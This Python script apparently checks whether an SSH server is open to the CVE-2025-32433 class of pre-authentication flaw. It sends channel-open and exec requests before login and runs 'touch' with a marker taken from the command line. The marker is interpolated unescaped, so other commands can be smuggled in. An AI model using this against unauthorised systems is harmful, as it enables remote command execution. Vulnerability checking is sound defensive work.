"""Connection-layer messages before authentication (CVE-2025-32433's class): after the key
exchange, without logging in, ask for a session channel, a direct-tcpip channel and an exec.
Waits up to the seconds given, then prints 'confirmed' if the server opened a channel,
'closed' if it ended the connection without opening one, 'open' if it did neither."""
import logging
import sys
import time

import paramiko
from paramiko.common import cMSG_CHANNEL_OPEN, cMSG_CHANNEL_REQUEST
from paramiko.message import Message

host, port, marker, wait = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])

seen = []


class Watch(logging.Handler):
    def emit(self, record):
        seen.append(record.getMessage())


logger = logging.getLogger("paramiko")
logger.setLevel(logging.DEBUG)
logger.addHandler(Watch())

transport = paramiko.Transport((host, port))
transport.start_client(timeout=10)
for kind in ("session", "direct-tcpip"):
    message = Message()
    message.add_byte(cMSG_CHANNEL_OPEN)
    message.add_string(kind)
    message.add_int(0)
    message.add_int(1 << 20)
    message.add_int(32768)
    if kind == "direct-tcpip":
        message.add_string("127.0.0.1")
        message.add_int(22)
        message.add_string("127.0.0.1")
        message.add_int(1)
    transport._send_message(message)
request = Message()
request.add_byte(cMSG_CHANNEL_REQUEST)
request.add_int(0)
request.add_string("exec")
request.add_boolean(True)
request.add_string(f"touch {marker}")
transport._send_message(request)
deadline = time.time() + wait
while time.time() < deadline and transport.is_active():
    time.sleep(0.05)
confirmed = any("unrequested channel" in line.lower() or "open_success" in line.lower() for line in seen)
print("confirmed" if confirmed else ("closed" if not transport.is_active() else "open"))
